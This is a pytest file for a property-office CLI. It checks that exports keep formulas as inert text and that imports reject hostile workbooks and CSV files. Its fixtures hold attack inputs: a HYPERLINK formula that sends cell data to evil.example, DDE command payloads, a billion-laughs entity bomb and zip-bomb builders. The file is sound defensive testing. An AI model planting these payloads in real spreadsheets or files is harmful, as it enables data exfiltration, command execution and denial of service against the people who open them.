"""Spreadsheets across the trust line: exports whose cells can never run as formulas, and
imports that refuse hostile workbooks and CSV files before reading them into memory.

Real offices, real files (workbooks written byte by byte with zipfile where Excel would
never write them), the real CLI."""
from __future__ import annotations

import csv
import io
import re
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from conftest import Office, copy_of, edit, git, made_once
from svcctl.store import sheet_limits, sheets

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"张三(点击核对)")'
DDE = "=cmd|' /C calc'!A0"


def sheet_xml(book: Path) -> str:
    with zipfile.ZipFile(book) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def xml_cells(book: Path) -> dict:
    """Cell reference -> (type attribute, the cell's whole XML) as the file holds it."""
    return {m.group(1): (m.group(2), m.group(0))
            for m in re.finditer(r'<c r="([A-Z]+\d+)"(?: s="\d+")?(?: t="(\w+)")?.*?(?:/>|</c>)', sheet_xml(book))}


def openpyxl_cells(book: Path) -> list[list]:
    from openpyxl import load_workbook

    ws = load_workbook(book).worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# ------------------------------------------------------------------------------ exports

def _hostile(office: Office) -> None:
    office.run("customer", "add", "--name", HYPERLINK, "--phone", "13700000002", "--unit", "6-1-101",
               "--notes", "@SUM(1+1)*cmd|' /C calc'!A0")
    office.run("customer", "add", "--name", "+赵六", "--phone", "13700000003", "--unit", "6-1-102",
               "--notes", "-2+3+cmd|' /C calc'!A0")
    office.intake("--type", "repair", "--unit", "6-1-101", "--summary", DDE, "--detail", "-1+1 漏水")


@pytest.fixture(scope="module")
def hostile_template(tmp_path_factory):
    return made_once(tmp_path_factory, "hostile", _hostile)


@pytest.fixture
def hostile(hostile_template, tmp_path) -> Office:
    """An office whose records hold formulas where names, notes and summaries belong."""
    return copy_of(hostile_template, tmp_path)[0]


def test_a_customer_named_as_a_formula_is_text_in_the_exported_workbook(hostile, tmp_path):
    book = tmp_path / "owners.xlsx"
    hostile.run("export", "customers", "-o", book, "--reveal", user="zhao")

    values = {value: kind for row in openpyxl_cells(book) for value, kind in row if value is not None}
    for text in (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+赵六", "-2+3+cmd|' /C calc'!A0"):
        assert values[text] == "s"  # read back as the very text, a string
    raw = sheet_xml(book)
    assert "<f>" not in raw and "<f " not in raw
    kinds = {kind for kind, _ in xml_cells(book).values()}
    assert kinds <= {"inlineStr", "s", "n"}, kinds
    # Marked for Excel too: editing the cell keeps it text.
    with zipfile.ZipFile(book) as z:
        assert 'quotePrefix="1"' in z.read("xl/styles.xml").decode()


def test_a_formula_in_a_ticket_is_text_in_the_ticket_workbook(hostile, tmp_path):
    book = tmp_path / "tickets.xlsx"
    hostile.run("export", "tickets", "-o", book)
    rows = openpyxl_cells(book)
    headers = [v for v, _ in rows[0]]
    ticket = dict(zip(headers, rows[1]))
    assert ticket["摘要"] == (DDE, "s") and ticket["详情"] == ("-1+1 漏水", "s")
    assert "<f>" not in sheet_xml(book)


def test_formulas_are_quoted_in_every_csv_the_program_writes(hostile, tmp_path):
    hostile.run("export", "customers", "-o", tmp_path / "owners.csv", "--reveal", user="zhao")
    written = csv_cells((tmp_path / "owners.csv").read_bytes())
    assert ["'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0"] == [written[3][1], written[3][4]]
    assert written[4][1] == "'+赵六" and written[4][4] == "'-2+3+cmd|' /C calc'!A0"

    hostile.run("export", "tickets", "-o", tmp_path / "tickets.csv")
    assert "'" + DDE in csv_cells((tmp_path / "tickets.csv").read_bytes())[1]

    listed = csv_cells(hostile.run("customer", "list", "--format", "csv", "--reveal", user="zhao").stdout.encode())
    assert ["'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0"] <= [c for row in listed for c in row]
    tickets = csv_cells(hostile.run("list", "--format", "csv").stdout.encode())
    assert "'" + DDE in tickets[1] and DDE not in tickets[1]
    late = hostile.run("overdue", "--format", "csv", now="2026-12-31 09:00", ok=False)  # exits 1: work is late
    overdue = csv_cells(late.stdout.encode())
    assert "'" + DDE in overdue[1]
    for listing in (listed, tickets, overdue):  # nothing in any cell a spreadsheet would run
        assert not [c for row in listing for c in row if re.match(r"\s*[=+@]|\s*-\D|[\t\r]", c)]


def test_a_formula_in_the_office_file_is_quoted_in_the_report_csv(office, tmp_path):
    department = '=HYPERLINK("http://evil.example/","维修部")'
    edit(office.root / "svcctl.yaml", "  - 绿化部\n", f"  - 绿化部\n  - '{department}'\n")
    office.run("commit", "-m", "a department", user="wang")
    tid = office.intake("--type", "repair", "--unit", "3-2-1502", "--summary", "漏水")
    office.run("dispatch", tid, "--to", department)
    text = office.run("report", "monthly", "--month", "2026-11", "--format", "csv").stdout
    cells = [c for row in csv_cells(text.encode()) for c in row]
    assert "'" + department in cells
    assert not [c for c in cells if re.match(r"\s*[=+@]|\s*-\D", c)]


def test_numbers_stay_numbers_and_only_text_is_quoted(tmp_path):
    row = [-5, 2.5, "-5", "-", "-12.5%", "13800138000", "=1+2", "-1+2", " @x", "'quoted", "3-2-1502"]
    sheets.write(tmp_path / "n.csv", [f"c{i}" for i in range(len(row))], [row])
    assert csv_cells((tmp_path / "n.csv").read_bytes())[1] == [
        "-5", "2.5", "-5", "-", "-12.5%", "13800138000", "'=1+2", "'-1+2", "' @x", "''quoted", "3-2-1502"]
    sheets.write(tmp_path / "n.xlsx", [f"c{i}" for i in range(len(row))], [row])
    read = openpyxl_cells(tmp_path / "n.xlsx")[1]
    assert read[:2] == [(-5, "n"), (2.5, "n")]
    assert [v for v, _ in read[2:]] == row[2:] and {t for _, t in read[2:]} == {"s"}


def test_what_csv_exports_quote_reads_back_as_it_was(tmp_path):
    texts = [HYPERLINK, "'already quoted", "''", "-", "@", "\t=x", "plain", "'=x"]
    sheets.write(tmp_path / "t.csv", ["text"], [[t] for t in texts])
    assert [cells[0] for _, cells in sheets.read(tmp_path / "t.csv").rows[1:]] == texts


def test_control_characters_are_shown_as_escapes_in_a_workbook_not_a_crash(tmp_path):
    row = ["陈\x1b[31m先生\x07", "备注\x00", "two\nlines\ttab", "\x1b=1+1"]
    sheets.write(tmp_path / "c.xlsx", ["a", "b", "c", "d"], [row])
    read = [v for v, _ in openpyxl_cells(tmp_path / "c.xlsx")[1]]
    assert read == ["陈\\u001b[31m先生\\u0007", "备注\\u0000", "two\nlines\ttab", "\\u001b=1+1"]
    assert "<f>" not in sheet_xml(tmp_path / "c.xlsx")


def test_a_hand_edited_record_with_control_characters_still_exports(office, tmp_path):
    record = next((office.root / "customers").glob("*.yaml"))
    text = record.read_text(encoding="utf-8")
    name = re.search(r"^name: (.*)$", text, re.M).group(1)
    record.write_text(text.replace(f"name: {name}", f'name: "{name}\\e[2J\\a\\0"'), encoding="utf-8")
    git(office.root, "commit", "-qam", "hand edit")
    book = tmp_path / "owners.xlsx"
    result = office.run("export", "customers", "-o", book, ok=False)
    assert result.exit_code != 70 and "Traceback" not in result.stderr
    if result.exit_code == 0:
        names = [row[1][0] for row in openpyxl_cells(book)[1:]]
        assert f"{name}\\u001b[2J\\u0007\\u0000" in names
    else:  # a record the office's checks refuse: one line, nothing written
        assert result.stderr.count("\n") == 1 and not book.exists()


# ------------------------------------------------------------------------------ imports

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/xl/workbook.xml" '
                 'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                 '<Override PartName="/xl/worksheets/sheet1.xml" '
                 'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                 '</Types>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?>\n'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Target="xl/workbook.xml" '
             'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
             '</Relationships>')
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
                 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
                 '</Relationships>')


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


REGISTER_ROWS = ('<row r="1">' + inline("A1", "姓名") + inline("B1", "电话") + inline("C1", "房号") + '</row>'
                 '<row r="2">' + inline("A2", "周先生") + inline("B2", "13700000009") + inline("C2", "7-1-101") + '</row>')


def worksheet(rows: str, dimension: str | None = "A1:C2", prolog: str = "") -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + prolog
            + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + (f'<dimension ref="{dimension}"/>' if dimension else "")
            + f"<sheetData>{rows}</sheetData></worksheet>")


PARTS = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
         "xl/_rels/workbook.xml.rels": WORKBOOK_RELS}


def workbook(path: Path, sheet, **more) -> Path:
    """A workbook as a zip of XML parts written by hand; ``sheet`` is the sheet's XML, or a
    function that writes it to an open part (for parts too large to hold in memory)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in {**PARTS, **more}.items():
            z.writestr(name, text)
        if callable(sheet):
            info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
            info.compress_type = zipfile.ZIP_DEFLATED
            info._compresslevel = 1  # the fastest to write here; a packed bomb is tighter still
            with z.open(info, "w", force_zip64=True) as part:
                sheet(part)
        else:
            z.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def refused(office: Office, path: Path, *args, **kw):
    """The import refused in one line, promptly, writing nothing; the line."""
    commits, status = office.commits(), git(office.root, "status", "--porcelain")
    started = time.monotonic()
    result = office.fails("import", "customers", path, *args, **kw)
    took = time.monotonic() - started
    assert result.exit_code in (2, 3), (result.exit_code, result.stderr)
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result.stderr
    assert office.commits() == commits and git(office.root, "status", "--porcelain") == status
    assert took < 10, f"took {took:.1f}s to refuse"
    return result.stderr.strip()


def test_the_hand_made_workbook_imports(office, tmp_path):
    """The workbooks below are refused for what was done to them, not for how they are written."""
    book = workbook(tmp_path / "ok.xlsx", worksheet(REGISTER_ROWS))
    assert "new customers 1" in office.run("import", "customers", book).stdout


def test_a_workbook_declaring_a_cell_at_xfd1048576_is_refused(office, tmp_path):
    rows = REGISTER_ROWS + '<row r="1048576">' + inline("XFD1048576", "x") + "</row>"
    book = workbook(tmp_path / "huge.xlsx", worksheet(rows, "A1:XFD1048576"))
    assert book.stat().st_size < 5000
    line = refused(office, book)
    assert "A1:XFD1048576" in line and "more than 100000 rows or 256 columns" in line


@pytest.mark.parametrize("where, says", [
    ('<row r="1048576">' + inline("A1048576", "x") + "</row>", "more than 100000 rows"),
    ('<row r="3">' + inline("XFD3", "x") + "</row>", "row 3 has a value in column 16384"),
])
def test_a_workbook_whose_dimension_lies_is_measured_as_it_is_read(office, tmp_path, where, says):
    book = workbook(tmp_path / "lies.xlsx", worksheet(REGISTER_ROWS + where, "A1:C2"))
    assert says in refused(office, book)


def test_a_zip_bomb_is_refused_from_the_zip_directory_without_unpacking(office, tmp_path):
    def padding(part):
        part.write(worksheet(REGISTER_ROWS).encode().replace(b"</sheetData>", b""))
        block = b" " * (1 << 20)
        for _ in range(300):  # 300 MB of nothing
            part.write(block)
        part.write(b"</sheetData></worksheet>")

    book = workbook(tmp_path / "bomb.xlsx", padding)
    assert book.stat().st_size < 2 << 20
    assert "unpacks to more than 256 MB" in refused(office, book)


def test_a_part_packed_far_tighter_than_any_workbook_is_refused(office, tmp_path):
    def padding(part):
        part.write(worksheet(REGISTER_ROWS).encode().replace(b"</sheetData>", b""))
        part.write(b" " * (40 << 20))
        part.write(b"</sheetData></worksheet>")

    line = refused(office, workbook(tmp_path / "tight.xlsx", padding))
    assert "xl/worksheets/sheet1.xml unpacks to" in line and "times its packed size" in line


def test_a_workbook_of_too_many_parts_is_refused(office, tmp_path):
    more = {f"xl/media/p{n}.xml": "<a/>" for n in range(sheet_limits.MAX_PARTS)}
    assert "more than the 1000 a workbook may" in refused(office, workbook(tmp_path / "parts.xlsx", worksheet(REGISTER_ROWS), **more))


def test_a_zip_of_seventy_thousand_parts_is_counted_from_its_end_record(office, tmp_path):
    """Past 65,535 parts a zip says its count in the zip64 record; it is read from there,
    before Python's zip reader makes an entry for every part."""
    parts = {**PARTS, "xl/worksheets/sheet1.xml": worksheet(REGISTER_ROWS), **{f"x/{n}": "" for n in range(70_000)}}
    assert "holds 70005 files" in refused(office, stored_zip(tmp_path / "swarm.xlsx", parts))


def stored_zip(path: Path, parts: dict[str, str]) -> Path:
    """A zip of ``parts``, stored, its records written one by one as the format lays them out,
    with the zip64 end record that a count past 65,535 needs (zipfile reads it back whole and
    finds every CRC right). zipfile takes a second of CPU to write seventy thousand parts;
    this, a tenth of that."""
    dated = (2026 - 1980) << 9 | 11 << 5 | 20
    local, central = bytearray(), bytearray()
    for name, text in parts.items():
        name_, data = name.encode(), text.encode()
        crc = zlib.crc32(data)
        central += struct.pack("<4s6H3L5H2L", b"PK\1\2", 45, 20, 0, 0, 0, dated, crc, len(data), len(data),
                               len(name_), 0, 0, 0, 0, 0, len(local)) + name_
        local += struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, dated, crc, len(data), len(data),
                             len(name_), 0) + name_ + data
    count, start, size = len(parts), len(local), len(central)
    zip64_end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, start)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, start + size, 1)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
    path.write_bytes(local + central + zip64_end + locator + end)
    return path


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
                            for n in range(1, 10))
                  + "]>\n")


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "[Content_Types].xml"])
def test_an_entity_bomb_in_any_part_is_refused(office, tmp_path, part):
    bomb = worksheet(REGISTER_ROWS.replace("周先生", "&lol9;"), prolog=BILLION_LAUGHS)
    parts = {"xl/worksheets/sheet1.xml": bomb} if part.endswith("sheet1.xml") else {
        part: '<?xml version="1.0"?>\n' + BILLION_LAUGHS + "<sst>&lol9;</sst>"}
    sheet = parts.pop("xl/worksheets/sheet1.xml", worksheet(REGISTER_ROWS))
    book = workbook(tmp_path / "laughs.xlsx", sheet, **({part: parts[part]} if parts else {}))
    assert f"{part} declares a document type or entities" in refused(office, book)


def test_a_part_in_another_encoding_is_refused(office, tmp_path):
    """A scan for <!DOCTYPE cannot see through UTF-16, so no part may be in it."""
    sheet = worksheet(REGISTER_ROWS).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert "is not written in UTF-8" in refused(office, workbook(tmp_path / "wide.xlsx", sheet))
    declared = worksheet(REGISTER_ROWS).replace('encoding="UTF-8"', 'encoding="UTF-7"')
    assert "is not written in UTF-8" in refused(office, workbook(tmp_path / "seven.xlsx", declared))


def test_a_broken_part_is_one_line_not_a_crash(office, tmp_path):
    book = workbook(tmp_path / "broken.xlsx", worksheet(REGISTER_ROWS).replace("</sheetData>", "<row"))
    assert "cannot read broken.xlsx as an Excel workbook" in refused(office, book)


def over_long_csv(path: Path, blank_rows: int) -> Path:
    """A register of one owner followed by blank lines."""
    path.write_text("姓名,电话,房号\n周先生,13700000009,7-1-101\n" + "\n" * blank_rows, encoding="utf-8")
    return path


def test_a_csv_over_the_row_limit_is_refused_unless_a_supervisor_allows_more(office, tmp_path):
    path = over_long_csv(tmp_path / "long.csv", sheet_limits.MAX_ROWS)
    assert "long.csv has more than 100000 rows" in refused(office, path)

    asked = refused(office, path, "--max-rows", 200_000, user="li")
    assert "needs a supervisor or director" in asked
    out = office.run("import", "customers", path, "--max-rows", 200_000, user="zhao").stdout
    assert "new customers 1" in out

    short = over_long_csv(tmp_path / "short.csv", 3)
    assert "short.csv has more than 2 rows" in refused(office, short, "--max-rows", 2, user="li")


def test_a_csv_larger_than_the_limit_is_refused_before_it_is_read(office, tmp_path):
    path = over_long_csv(tmp_path / "large.csv", 0)
    with path.open("r+b") as handle:  # sparse: the size without the disk
        handle.truncate(sheet_limits.MAX_CSV_BYTES + 1)
    assert "large.csv is 128 MB, more than the 128 MB a CSV file of 100000 rows may be" in refused(office, path)


def test_a_ticket_ledger_is_held_to_the_same_limits(office, tmp_path):
    rows = REGISTER_ROWS + '<row r="1048576">' + inline("XFD1048576", "x") + "</row>"
    book = workbook(tmp_path / "huge.xlsx", worksheet(rows, "A1:XFD1048576"))
    result = office.fails("import", "tickets", book, "--type", "repair")
    assert result.exit_code == 2 and "A1:XFD1048576" in result.stderr and result.stderr.count("\n") == 1


def test_an_export_reads_back_with_its_formulas_as_text(hostile, tmp_path):
    from test_import_export import customers, fresh_office

    for name in ("owners.csv", "owners.xlsx"):
        hostile.run("export", "customers", "-o", tmp_path / name, "--reveal", user="zhao")
        other = fresh_office(tmp_path / name.replace(".", "-"))
        other.run("import", "customers", tmp_path / name)
        assert customers(other) == customers(hostile)
